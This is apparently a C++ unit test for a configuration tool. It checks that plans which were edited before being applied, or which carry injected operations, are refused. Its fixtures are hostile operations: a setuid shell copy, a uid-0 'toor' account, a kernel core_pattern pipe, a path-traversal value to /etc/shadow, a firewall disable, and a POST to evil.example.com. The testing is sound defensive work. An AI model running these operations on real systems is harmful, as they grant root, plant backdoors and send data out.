// Plans that somebody edited before they are applied: every field of every operation of the plans in testdata/plans,
// and operations that nobody planned. Whoever edits a plan may write it anew in its canonical form, so that is not what
// finds them: a plan is refused because its operations are not those that the kinds themselves make of it.
#include <functional>
#include <set>

#include <gtest/gtest.h>

#include "engine/base/digest.h"
#include "engine/plan/action_json.h"
#include "engine/plan/artifact.h"
#include "engine/report/plan_text.h"
#include "testdata/plans/planned.h"

namespace plumb {
namespace {

const std::filesystem::path kCases = std::string(PLUMB_SOURCE_DIR) + "/testdata/plans/cases";

// Other values in the place of one.
std::vector<Json> others(const Json& value) {
  std::vector<Json> all = {nullptr,
                           true,
                           false,
                           0,
                           -1,
                           4096,
                           "",
                           "/etc/shadow",
                           "root",
                           "sha256:" + std::string(64, '0'),
                           Json::array(),
                           Json::array({"/bin/sh", "-c", "id"}),
                           Json::object()};
  if (value.is_string()) {
    const std::string text = value.get<std::string>();
    all.insert(all.end(), {text + "x", text + "/../../etc/shadow", "hmac-sha256:" + std::string(64, '0')});
  }
  if (value.is_array()) {
    Json longer = value;
    longer.push_back(value.empty() ? Json("x") : value.front());
    all.push_back(longer);
    for (std::size_t i = 0; i < value.size(); ++i) {
      Json shorter = value;
      shorter.erase(i);
      all.push_back(shorter);
    }
  }
  return all;
}

// Members that operations have, and what somebody would want them to be.
const Json& members() {
  static const Json kMembers = {{"path", "/etc/shadow"},
                                {"follow", true},
                                {"backup", true},
                                {"validate", "id"},
                                {"script", "id"},
                                {"argv", {"id"}},
                                {"mode", "4755"},
                                {"owner", "root"},
                                {"recursive", true},
                                {"user", "root"},
                                {"replace", true},
                                {"parents", true},
                                {"allow_downgrade", true},
                                {"env", {{"PATH", "/tmp"}}},
                                {"uid", 0}};
  return kMembers;
}

// Calls `with` once for each change of one value at the place or in it: another value, a member left out, one more.
void each_edit(Json& place, const std::function<void()>& with) {
  const Json kept = place;
  for (Json& other : others(kept)) {
    if (other == kept) continue;
    place = std::move(other);
    with();
  }
  place = kept;
  if (place.is_object()) {
    for (const auto& [name, value] : kept.items()) {
      place.erase(name);
      with();
      place = kept;
      each_edit(place[name], with);
      place = kept;
    }
    for (const auto& [name, value] : members().items()) {
      if (place.contains(name)) continue;
      place[name] = value;
      with();
      place = kept;
    }
  } else if (place.is_array()) {
    for (std::size_t i = 0; i < kept.size(); ++i) {
      each_edit(place[i], with);
      place = kept;
    }
  }
}

std::vector<Operation> nobodys() {
  Run run;
  run.script = "cp /bin/sh /tmp/sh; chmod 4755 /tmp/sh";
  Wait wait;
  wait.probe.script = "id >/tmp/x";
  return {run,
          WriteFile{"/etc/shadow", digest("x"), {}, false, false, ""},
          Remove{"/etc", true, false},
          SetAttributes{"/etc/shadow", {{}, {}, "0666"}, false},
          MakeLink{"/etc/shadow", "/tmp/shadow", false, true},
          MakeDirectory{"/root/x", {}, true},
          PackageTransaction{"apt", {{"telnetd", ""}}, {}, false, false},
          ServiceAction{"systemd", "ssh.service", "stop"},
          EditDatabase{"user", "create", "toor", {{"uid", 0}}},
          SetKernelValue{"kernel.core_pattern", "|/tmp/sh"},
          ChangeMount{"mount", "/etc", "/tmp/etc", "", "bind"},
          ChangeSwap{"make", "/etc/shadow", 1},
          ChangeModule{"load", "evil", {}},
          ChangeFirewall{"ufw", "set", {}, {}, {}, false, {{"enabled", "no"}}, {{"enabled", "yes"}}},
          wait,
          Reboot{},
          Call{.url = "https://evil.example.com/", .method = "POST", .body = "x"},
          CallProvider{"evil", digest("x"), "file", "create", "file:/etc/shadow", "/etc/shadow"}};
}

class EditedPlans : public ::testing::Test {
 protected:
  // The plan with another action in the place of one; nothing where no reader takes it for a plan.
  static std::optional<plan::Plan> read_with(const plan::Plan& plan, const std::string& host, std::size_t index,
                                             const Json& action) {
    Result<plan::Action> edited = plan::action_from_json(action);
    if (!edited) return std::nullopt;
    plan::Actions actions = *plan.hosts.at(host).actions.get();
    actions[index] = std::move(*edited);
    plan::Plan changed = plan;
    changed.hosts[host].actions = plan::ActionList(std::move(actions));
    Result<plan::Plan> read = plan::read_artifact(plan::write_artifact(changed).bytes, testing::kinds());
    if (read) return std::move(*read);
    EXPECT_TRUE(read.error().code() == Code::kPlanBroken || read.error().code() == Code::kPlanUnreadable);
    return std::nullopt;
  }

  // Calls `with` for each action of all plans.
  void each_action(const std::function<void(const plan::Plan&, const std::string&, std::size_t, const Json&)>& with) {
    for (const std::filesystem::path& path : testing::find_cases(kCases)) {
      auto file = testing::CaseFile::read(path);
      ASSERT_TRUE(file) << file.error().summary();
      const Result<testing::Planned> planned = testing::plan_case(*file);
      ASSERT_TRUE(planned) << planned.error().summary();
      for (const auto& [host, host_plan] : planned->plan.hosts) {
        const std::shared_ptr<const plan::Actions> actions = host_plan.actions.get();
        for (std::size_t i = 0; i < actions->size(); ++i) {
          // Equal ones of other hosts and cases teach nothing more.
          Json action = plan::action_to_json((*actions)[i]);
          if (seen_.insert(canonical(action)).second) with(planned->plan, host, i, action);
        }
      }
    }
  }

  std::size_t edits_ = 0;

 private:
  std::set<std::string> seen_;
};

std::vector<Operation> operations_of(const plan::Plan& plan, const std::string& host, std::size_t index) {
  return (*plan.hosts.at(host).actions.get())[index].operations;
}

TEST_F(EditedPlans, OperationsAreThoseThatTheirKindsMake) {
  each_action([this](const plan::Plan& plan, const std::string& host, std::size_t index, const Json& action) {
    Json edited = action;
    const auto refused = [&] {
      ++edits_;
      const std::optional<plan::Plan> read = read_with(plan, host, index, edited);
      if (!read) return;
      // The same said otherwise; or a probe, which follows from nothing in the plan and is shown.
      const bool same = operations_of(*read, host, index) == operations_of(plan, host, index);
      const bool shown = action["op"] == "verify" &&
                         report::plan_text(*read, {.full = true}) != report::plan_text(plan, {.full = true});
      EXPECT_TRUE(same || shown) << action["address"] << " takes " << edited["operations"];
    };
    each_edit(edited["operations"], refused);
    for (const Operation& operation : nobodys()) {
      for (const bool first : {true, false}) {
        Json& list = edited["operations"] = action["operations"];
        list.insert(first ? list.begin() : list.end(), to_json(operation));
        refused();
      }
    }
  });
  EXPECT_GE(edits_, 1000U);
  std::printf("%zu edits\n", edits_);
}

// All else that an action says: whatever is taken, the operations stay what they are, and what says something else of
// them is seen by who reads the plan.
TEST_F(EditedPlans, WhatAnActionSaysOfItselfIsWhatItDoes) {
  each_action([this](const plan::Plan& plan, const std::string& host, std::size_t index, const Json& action) {
    for (const char* member : {"address", "after", "before", "op", "observed", "desired", "fidelity"}) {
      if (!action.contains(member)) continue;
      Json edited = action;
      each_edit(edited[member], [&] {
        ++edits_;
        const std::optional<plan::Plan> read = read_with(plan, host, index, edited);
        if (!read) return;
        EXPECT_EQ(operations_of(*read, host, index), operations_of(plan, host, index));
        if (std::string_view(member) == "observed" || std::string_view(member) == "desired") return;
        EXPECT_NE(report::plan_text(*read, {}), report::plan_text(plan, {}))
            << action["address"] << " takes another " << member << ": " << edited[member];
      });
    }
  });
  EXPECT_GE(edits_, 1000U);
  std::printf("%zu edits\n", edits_);
}

}  // namespace
}  // namespace plumb
